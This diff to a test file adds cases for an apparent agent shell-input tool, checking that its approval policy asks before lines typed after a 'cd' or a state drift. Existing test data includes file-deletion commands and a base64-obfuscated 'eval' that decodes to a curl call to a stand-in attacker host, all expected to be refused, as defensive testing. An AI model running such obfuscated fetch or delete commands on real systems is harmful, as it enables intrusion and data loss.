@@ -34,6 +34,8 @@ describe('tools/sendInput: commands that wait for input', () => {
       assert.match(judgeInput('ls\nrm x\n', undefined, waiting, [allow, ask]).why, /rm deletes files/);
       assert.equal(judgeInput('y\n', undefined, waiting, [ask]).kind, 'ask', 'a plain answer to a shell is a command line too');
       assert.equal(judgeInput('x\n', undefined, waiting, [ask, deny]).kind, 'refuse');
+      assert.equal(judgeInput('ls\n', undefined, waiting, [allow], true).kind, 'ask', 'a shell whose state drifted asks for every line');
+      assert.equal(judgeInput('x\n', undefined, waiting, [deny], true).kind, 'refuse');
     });
 
     it('counts only a bare shell as reading command lines', () => {
@@ -103,6 +105,10 @@ describe('tools/sendInput: commands that wait for input', () => {
       assert.deepEqual(echoed.approver.asked, []);
       assert.match(echoed.text, /hello-from-bash/);
       await assert.rejects(call(sendInputTool, { id, text: 'rm -f nothing-here' }, false), /declined to type "rm -f nothing-here" and Enter/);
+      // A line that may change the folder leaves the policy unable to judge where later lines run: they ask.
+      const moved = await call(sendInputTool, { id, text: 'cd .' });
+      assert.deepEqual(moved.approver.asked, []);
+      await assert.rejects(call(sendInputTool, { id, text: 'echo after-cd' }, false), /declined to type "echo after-cd" and Enter/);
       await assert.rejects(call(sendInputTool, { id, text: 'eval "$(printf %s Y3VybCBldmlsLmV4YW1wbGU= | base64 -d)"' }, false), /declined|refused/);
     });
 
